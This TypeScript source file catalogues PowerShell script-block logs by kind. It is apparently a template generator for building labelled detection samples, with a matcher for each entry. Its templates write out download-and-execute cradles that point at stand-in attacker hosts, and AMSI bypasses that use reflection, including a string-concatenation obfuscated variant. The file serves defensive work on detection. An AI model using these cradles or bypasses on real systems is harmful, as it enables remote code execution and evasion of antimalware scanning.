/**
 * PowerShell script blocks (ps_script scenarios, event 4104 of script block logging): kinds of script
 * by what they do, each written the several ways people and tools write it. A template's `{slot}`s are
 * filled from `SLOTS` (or the entry's own `slots`); `matches` tells an entry's scripts from those of
 * every entry listed after it, so entries are identified in catalogue order, the most specific first.
 */

/** One kind of script block. */
export interface ScriptEntry {
  readonly name: string;
  readonly roles: readonly string[];
  readonly templates: readonly string[];
  /** Slot values of this entry, overriding the shared ones. */
  readonly slots?: Readonly<Record<string, readonly string[]>>;
  /** Tells the entry's scripts from those of the entries after it (the text as logged). */
  readonly matches: (text: string) => boolean;
  readonly note?: string;
}

/** Values of the slots templates share. */
export const SLOTS: Readonly<Record<string, readonly string[]>> = {
  url: ['http://203.0.113.7/a.ps1', 'https://raw.githubusercontent.com/attacker/tools/main/Invoke-Recon.ps1', 'http://10.0.0.5:8080/stage2', 'https://cdn-update.example/u.txt'],
  iex: ['IEX', 'iex', 'Invoke-Expression', 'invoke-expression', 'IeX'],
  webclient: ['New-Object Net.WebClient', 'New-Object System.Net.WebClient', 'new-object net.webclient', 'New-Object -TypeName System.Net.WebClient'],
  download: ['DownloadString', 'downloadstring', 'DownloadString'],
  iwr: ['Invoke-WebRequest', 'iwr', 'invoke-webrequest'],
  irm: ['Invoke-RestMethod', 'irm', 'Invoke-RESTMethod'],
  outfile: ['C:\\Windows\\Temp\\update.zip', '$env:TEMP\\setup.msi', 'C:\\deploy\\package.nupkg'],
  path: ['C:\\inetpub\\wwwroot', 'C:\\Windows\\Temp', 'HKLM:\\SOFTWARE\\Contoso'],
  service: ['W3SVC', 'WinRM', 'Spooler', 'MSSQLSERVER'],
  amsi: ['AmsiUtils', 'amsiUtils', 'AMSIUTILS'],
  failed: ['amsiInitFailed', 'AmsiInitFailed', 'amsiinitfailed'],
};

const has = (text: string, ...parts: readonly string[]): boolean => parts.every((part) => text.toLowerCase().includes(part.toLowerCase()));
const runs = (text: string): boolean => /\biex\b|invoke-expression/i.test(text);

/** The script kinds, most specific first. */
export const SCRIPT_BLOCKS: readonly ScriptEntry[] = [
  {
    name: 'chocolatey-install', roles: ['installer'],
    templates: [
      "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; {iex} ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
      "{iex} ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ],
    matches: (text) => has(text, 'community.chocolatey.org/install.ps1'),
    note: 'Chocolatey\'s documented install command: a download cradle run by administrators on purpose.',
  },
  {
    name: 'download-cradle-webclient', roles: ['download-cradle'],
    templates: [
      "{iex} ({webclient}).{download}('{url}')",
      "{iex}(({webclient}).{download}('{url}'))",
      "({webclient}).{download}('{url}') | {iex}",
      "$wc = {webclient}\n$wc.Headers.Add('User-Agent', 'Mozilla/5.0')\n$script = $wc.{download}(\"{url}\")\n{iex} $script",
    ],
    matches: (text) => has(text, '.downloadstring(') && runs(text),
    note: 'A script fetched with WebClient and run in memory, never written to disk (ATT&CK T1059.001, T1105).',
  },
  {
    name: 'download-cradle-webrequest', roles: ['download-cradle'],
    templates: [
      "{iex} ({iwr} -Uri '{url}' -UseBasicParsing).Content",
      "{iwr} {url} -UseBasicParsing | {iex}",
      "{irm} '{url}' | {iex}",
      "$r = {irm} -Uri {url}\n{iex} $r",
    ],
    matches: (text) => /invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b/i.test(text) && runs(text),
    note: 'The same with Invoke-WebRequest or Invoke-RestMethod.',
  },
  {
    name: 'download-to-file', roles: ['download'],
    templates: [
      "{iwr} -Uri '{url}' -OutFile '{outfile}'",
      "({webclient}).DownloadFile('{url}', '{outfile}')",
      "Start-BitsTransfer -Source '{url}' -Destination '{outfile}'",
    ],
    matches: (text) => /-outfile|\.downloadfile\(|start-bitstransfer/i.test(text),
    note: 'Downloads saved to disk and not run: installers, packages.',
  },
  {
    name: 'amsi-bypass-reflection', roles: ['amsi-bypass'],
    templates: [
      "[Ref].Assembly.GetType('System.Management.Automation.{amsi}').GetField('{failed}','NonPublic,Static').SetValue($null,$true)",
      "$a = [Ref].Assembly.GetType(\"System.Management.Automation.{amsi}\")\n$f = $a.GetField(\"{failed}\", \"NonPublic,Static\")\n$f.SetValue($null, $true)",
    ],
    matches: (text) => has(text, 'amsiutils', 'amsiinitfailed'),
    note: 'Turns off the Antimalware Scan Interface for the session by setting AmsiUtils.amsiInitFailed (ATT&CK T1562.001).',
  },
  {
    name: 'amsi-bypass-concatenated', roles: ['amsi-bypass-obfuscated'],
    templates: [
      "$t = [Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils'); $t.GetField('amsi'+'Init'+'Failed','NonPublic,Static').SetValue($null,$true)",
      "$n = 'System.Management.Automation.A' + 'msiUtils'\n[Ref].Assembly.GetType($n).GetField(('amsiInit' + 'Failed'), 'NonPublic,Static').SetValue($null, $true)",
    ],
    matches: (text) => has(text, 'getfield(', 'nonpublic,static', 'setvalue($null') && !has(text, 'amsiutils'),
    note: 'The same bypass with its names cut into pieces, so no string of the script names AmsiUtils.',
  },
  {
    name: 'local-invoke-expression', roles: ['admin'],
    templates: ["{iex} \"Get-ChildItem -Path '{path}' -Recurse\"", "$cmd = 'Get-Service {service}'; {iex} $cmd"],
    matches: runs,
    note: 'Invoke-Expression on text built locally: no download.',
  },
  {
    name: 'admin-query', roles: ['admin'],
    templates: ['Get-Service -Name {service} | Select-Object Status, StartType', 'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10', "Get-ChildItem -Path '{path}' -Filter *.config", 'Import-Module WebAdministration; Get-Website | Format-Table Name, State'],
    matches: () => true,
  },
];
